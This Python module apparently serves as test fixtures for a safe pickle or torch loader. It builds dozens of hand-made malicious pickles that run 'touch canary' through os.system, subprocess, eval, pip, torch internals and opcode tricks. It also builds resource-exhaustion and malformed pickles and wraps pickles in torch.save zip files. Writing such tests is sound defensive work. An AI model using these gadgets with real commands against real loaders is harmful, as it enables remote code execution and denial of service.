"""Known attacks on pickle, written by hand: what each would run if it were loaded by pickle is in its name."""

import base64
import io
import pickle
import zipfile
from struct import pack
from typing import Any

import torch

COMMAND = b"touch canary"


def reduce(module: str, name: str, *args: Any) -> bytes:
    """A pickle that calls module.name(*args)."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + pickle.dumps(args, 2)[2:-1] + b"R."


def _chain() -> bytes:
    """getattr(__import__("os"), "system")("touch canary")"""
    imported = b"c__builtin__\n__import__\n(S'os'\ntR"
    return b"c__builtin__\ngetattr\n(" + imported + b"S'system'\ntR(S'" + COMMAND + b"'\ntR."


def _text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _legacy_of(data: bytes) -> bytes:
    """A file in torch's old format whose object is this pickle."""
    header = [pickle.dumps(item, 2) for item in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join([*header, data, pickle.dumps([], 2)])


def _nested(depth: int) -> bytes:
    data = reduce("os", "system", COMMAND.decode())
    for _ in range(depth):
        data = pickle.dumps(_LoadFromBytes(_legacy_of(data)), 2)
    return data


class _LoadFromBytes:
    def __init__(self, data: bytes) -> None:
        self.data = data

    def __reduce__(self) -> tuple[Any, ...]:
        return torch.storage._load_from_bytes, (self.data,)


_STATE = b"}(S'__setstate__'\ncos\nsystem\nu"
_SLOTS = b"N}S'__call__'\ncos\nsystem\ns\x86"
_CODE = base64.b64encode(b"import os; os.system('touch canary')").decode()
RUNNING: dict[str, bytes] = {
    "os.system": reduce("os", "system", COMMAND.decode()),
    "posix.system": reduce("posix", "system", COMMAND.decode()),
    "os.popen": reduce("os", "popen", COMMAND.decode()),
    "os.execv": reduce("os", "execv", "/bin/sh", ["sh", "-c", COMMAND.decode()]),
    "subprocess.Popen": reduce("subprocess", "Popen", COMMAND.decode().split()),
    "pty.spawn": reduce("pty", "spawn", COMMAND.decode().split()),
    "builtins.eval": reduce("builtins", "eval", "__import__('os').system('touch canary')"),
    "builtins.exec": reduce("builtins", "exec", "import os; os.system('touch canary')"),
    "__builtin__.execfile": reduce("__builtin__", "execfile", "attack.py"),
    "builtins.open": reduce("builtins", "open", "canary", "w"),
    "builtins.compile": reduce("builtins", "compile", "1", "x", "exec"),
    "builtins.__import__": reduce("builtins", "__import__", "antigravity"),
    "builtins.map": reduce("builtins", "map", "system", [COMMAND.decode()]),
    "io.FileIO": reduce("io", "FileIO", "canary", "w"),
    "pathlib.Path.touch": b"\x80\x04" + _text("pathlib") + _text("Path.touch") + b"\x93" + _text("canary") + b"\x85R.",
    "getattr chain": _chain(),
    "operator.attrgetter": b"coperator\nattrgetter\n(S'system'\ntR(cos\n__dict__\ntR.",
    "operator.methodcaller": b"coperator\nmethodcaller\n(S'system'\nS'touch canary'\ntR(cposix\n\ntR.",
    "functools.partial": b"cfunctools\npartial\n(cos\nsystem\nS'touch canary'\ntR)R.",
    "functools.reduce": b"cfunctools\nreduce\n(cos\nsystem\n(S'touch canary'\nltR.",
    "runpy": reduce("runpy", "_run_code", "open('canary', 'w')", {}),
    "runpy.run_path": reduce("runpy", "run_path", "attack.py"),
    "webbrowser": reduce("webbrowser", "open", "file:///canary"),
    "pip.main": reduce("pip", "main", ["install", "canary"]),
    "pip._internal": reduce("pip._internal.cli.main", "main", ["install", "canary"]),
    "numpy runstring": reduce("numpy.testing._private.utils", "runstring", "open('canary', 'w')", {}),
    "importlib": reduce("importlib", "import_module", "antigravity"),
    "types.CodeType": reduce("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", "x", 0, b"", b""),
    "types.FunctionType": reduce("types", "FunctionType", None, {}),
    "marshal.loads": reduce("marshal", "loads", b"\xe3"),
    "pickle.loads": reduce("pickle", "loads", reduce("os", "system", COMMAND.decode())),
    "_pickle.loads": reduce("_pickle", "loads", reduce("os", "system", COMMAND.decode())),
    "torch.load": reduce("torch.serialization", "load", "attack.pt"),
    "torch.hub.load": reduce("torch.hub", "load", "canary/canary", "x"),
    "torch.jit": reduce("torch.jit.unsupported_tensor_ops", "execWrapper", "open('canary','w')", {}, {}),
    "torch._inductor": reduce("torch._inductor.codecache", "compile_file", "attack.cpp", "canary", [""]),
    "torch.utils.collect_env": reduce("torch.utils.collect_env", "run", COMMAND.decode()),
    "bdb.Bdb.run": reduce("bdb", "Bdb.run", "open('canary', 'w')"),
    "timeit": reduce("timeit", "timeit", "open('canary', 'w')"),
    "code.InteractiveInterpreter": reduce("code", "InteractiveInterpreter.runcode", "x"),
    "ctypes": reduce("ctypes", "CDLL", "canary.so"),
    "codecs.decode": reduce("_codecs", "decode", _CODE.encode(), "base64"),
    "codecs.encode": reduce("_codecs", "encode", "x", "rot13"),
    "INST": b"(S'touch canary'\nios\nsystem\n.",
    "OBJ": b"(cos\nsystem\nS'touch canary'\no.",
    "NEWOBJ": b"\x80\x02cos\nsystem\nS'touch canary'\n\x85\x81.",
    "NEWOBJ_EX": b"\x80\x04cos\nsystem\nS'touch canary'\n\x85}\x92.",
    "STACK_GLOBAL": b"\x80\x04" + _text("os") + _text("system") + b"\x93" + _text("touch canary") + b"\x85R.",
    "STACK_GLOBAL from the memo": b"\x80\x04"
    + _text("system")
    + b"\x940"
    + _text("os")
    + b"h\x00\x93"
    + _text("touch canary")
    + b"\x85R.",
    "STACK_GLOBAL of numbers": b"\x80\x04K\x01K\x02\x93.",
    "STACK_GLOBAL of calls": b"\x80\x04" + b"cos\nsystem\n" * 2 + b"\x93.",
    "EXT1": b"\x80\x02\x82\x01)R.",
    "EXT2": b"\x80\x02\x83\x01\x01)R.",
    "EXT4": b"\x80\x02\x84\x01\x01\x01\x01)R.",
    "BUILD on a class": b"cos\nsystem\n" + _STATE + b"b.",
    "BUILD on an allowed class": b"ccollections\nOrderedDict\n" + _STATE + b"b.",
    "BUILD on an instance": b"c__main__\nA\n)R" + _STATE + b"bS'touch canary'\nb.",
    "BUILD with slots": b"c__main__\nA\n)R" + _SLOTS + b"b.",
    "BUILD on a dict with slots": b"ccollections\nOrderedDict\n)R" + _SLOTS + b"b.",
    "BUILD on a module": b"c__builtin__\n__import__\n(S'os'\ntR" + _SLOTS + b"b.",
    "BUILD on a dtype": b"ctorch\nfloat32\n" + _STATE + b"b.",
    "BUILD on a dict": b"}" + _STATE + b"b.",
    "BUILD on a list": b"]" + _STATE + b"b.",
    "SETITEM on a class": b"cos\nenviron\nS'canary'\nS'1'\ns.",
    "APPEND on a class": b"csys\npath\nS'canary'\na.",
    "sys.modules": b"csys\nmodules\nS'os'\nS'canary'\ns.",
    "REDUCE with a stand-in as arguments": b"cos\nsystem\ncos\nsystem\n)RR.",
    "REDUCE with a list": b"cos\nsystem\n]R.",
    "REDUCE of a number": b"K\x01)R.",
    "REDUCE of a constant": b"ctorch\nfloat32\n)R.",
    "REDUCE of a storage type": b"ctorch\nFloatStorage\n(K\x05tR.",
    "_reconstructor of a function": b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR.",
    "_reconstructor of itself": b"ccopy_reg\n_reconstructor\n(" + b"ccopy_reg\n_reconstructor\n" * 2 + b"NtR.",
    "__newobj__": b"ccopyreg\n__newobj__\n(cos\nsystem\nS'touch canary'\ntR.",
    "_rebuild_from_type_v2": b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\n2(S'touch canary'\nt}tR.",
    "_rebuild_from_type_v2 of itself": b"ctorch._tensor\n_rebuild_from_type_v2\n2NN}\x87R.",
    "_rebuild_wrapper_subclass": reduce("torch._utils", "_rebuild_wrapper_subclass", "x"),
    "_load_from_bytes": _nested(1),
    "_load_from_bytes, deep": _nested(12),
    "_load_from_bytes of text": reduce("torch.storage", "_load_from_bytes", "x"),
    "a persistent id that is text": b"Pcanary\n.",
    "a persistent id that is a call": b"cos\nsystem\n(S'touch canary'\ntRQ.",
    "numpy.load": reduce("numpy", "load", "canary.npy"),
    "numpy.f2py": reduce("numpy.f2py.crackfortran", "getlincoef", "open('canary','w')", {}),
    "numpy object array": b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tS'b'\ntR(K\x01(K\x01t"
    b"cnumpy\ndtype\n(S'O8'\nI00\nI01\ntR(K\x03S'|'\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tbI00\n]cos\nsystem\natb.",
}


def _tuples(depth: int) -> bytes:
    """A tuple of twice a tuple of twice a tuple …: hashing it would take 2**depth steps."""
    return b")" + b"2\x86" * depth


def _lists(depth: int) -> bytes:
    return b"]" + b"q\x00]h\x00ah\x00a" * depth


GREEDY: dict[str, bytes] = {
    "tuple as a key": b"}" + _tuples(100) + b"Ns.",
    "tuple in a set": b"\x80\x04\x8f(" + _tuples(100) + b"\x90.",
    "tuple in a frozenset": b"\x80\x04(" + _tuples(100) + b"\x91.",
    "tuple as a key of DICT": b"(" + _tuples(100) + b"Nd.",
    "tuple as a key of OrderedDict": b"ccollections\nOrderedDict\n((" + _tuples(100) + b"NltltR.",
    "tuple as a key of a stand-in": b"c__main__\nA\n)R" + _tuples(100) + b"Ns.",
    "tuple as a layout": b"ctorch.serialization\n_get_layout\n" + _tuples(100) + b"\x85R.",
    "tuple as the key of a storage": b"(S'storage'\nctorch\nFloatStorage\n" + _tuples(100) + b"S'cpu'\nK\x01NtQ.",
    "tuples alone": _tuples(100) + b".",
    "lists alone": _lists(100) + b".",
    "deep lists": b"(" * 9_000 + b"l" * 9_000 + b".",
    "deep tuples": b")" + b"\x85" * 300_000 + b".",
    "deep stand-ins": b"c__main__\nA\nq\x00" + b"h\x00)R" * 100_000 + b"N" + b"b" * 100_000 + b".",
    "integers of the same hash": b"}("
    + b"".join(b"\x8a\x10" + (number * ((1 << 61) - 1)).to_bytes(16, "little") + b"N" for number in range(1, 30_000))
    + b"u.",
    "complex numbers": b"}c__builtin__\ncomplex\n(K\x01K\x02tRNs.",
    "sets": b"\x80\x04(" + b"\x8f" * 1_000_000 + b"l.",
    "marks": b"(" * 1_000_000 + b".",
    "copies of a list": b"](" + b"N" * 10_000 + b"eq\x000" + b"c__builtin__\nlist\nh\x00\x85R" * 10_000 + b".",
    "copies of bytes": b"\x80\x04"
    + b"B"
    + pack("<I", 1 << 20)
    + bytes(1 << 20)
    + b"q\x000"
    + b"c__builtin__\nbytearray\nh\x00\x85R" * 100_000
    + b".",
    "a huge PUT": b"Nr\xff\xff\xff\xff.",
    "a PUT of many digits": b"Np" + b"9" * 100_000 + b"\n.",
    "a GET of nothing": b"j\xff\xff\xff\xff.",
    "a negative PUT": b"Np-1\n.",
    "a negative LONG4": b"\x80\x02\x8b\xff\xff\xff\xff.",
    "a huge LONG4": b"\x80\x02\x8b\xff\xff\xff\x7f.",
    "a LONG4 of a megabyte": b"\x80\x02\x8b" + pack("<i", 1 << 20) + b"\xff" * (1 << 20) + b".",
    "a LONG of many digits": b"L" + b"9" * 1_000_000 + b"L\n.",
    "an INT of many digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "a huge BINUNICODE8": b"\x80\x04\x8d" + b"\xff" * 8 + b".",
    "a huge BINBYTES8": b"\x80\x04\x8e" + b"\xff" * 8 + b".",
    "a huge BYTEARRAY8": b"\x80\x05\x96" + b"\xff" * 8 + b".",
    "a negative BINSTRING": b"T\xff\xff\xff\xff.",
    "a lying FRAME": b"\x80\x04\x95" + b"\xff" * 8 + b"N.",
    "no STOP": b"\x80\x04N",
    "an empty stack": b".",
    "POP of nothing": b"0.",
    "POP_MARK of nothing": b"N1.",
    "POP below a mark": b"N(0000.",
    "MEMOIZE of nothing": b"\x80\x04\x94.",
    "DUP of nothing": b"2.",
    "TUPLE3 of two": b"NN\x87.",
    "SETITEMS of three": b"}(NNNu.",
    "an unknown opcode": b"\xff.",
    "protocol 200": b"\x80\xc8N.",
    "NEXT_BUFFER": b"\x80\x05\x97.",
    "READONLY_BUFFER": b"\x80\x05\x98.",
    "a float of letters": b"Fcanary\n.",
    "a name that is no UTF-8": b"c\xff\n\xff\n.",
    "text that is no UTF-8": b"\x8c\x01\xff.",
    "a string without quotes": b"Scanary\n.",
    "data behind the end": b"N.canary",
    "int of a huge float": b"c__builtin__\nint\n(F1e400\ntR.",
    "a huge dtype": b"cnumpy\ndtype\n(S'S999999999'\ntR.",
    "an array of more than it has": b"cnumpy.core.numeric\n_frombuffer\n(C\x01x"
    b"cnumpy\ndtype\n(S'f8'\ntR(J\xff\xff\xff\x7ftS'C'\ntR.",
}


def torch_zip(data: bytes, entries: dict[str, bytes] | None = None) -> bytes:
    """A file of torch.save's form around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in {"data.pkl": data, "byteorder": b"little", **(entries or {})}.items():
            archive.writestr(f"archive/{name}", content)
    return buffer.getvalue()
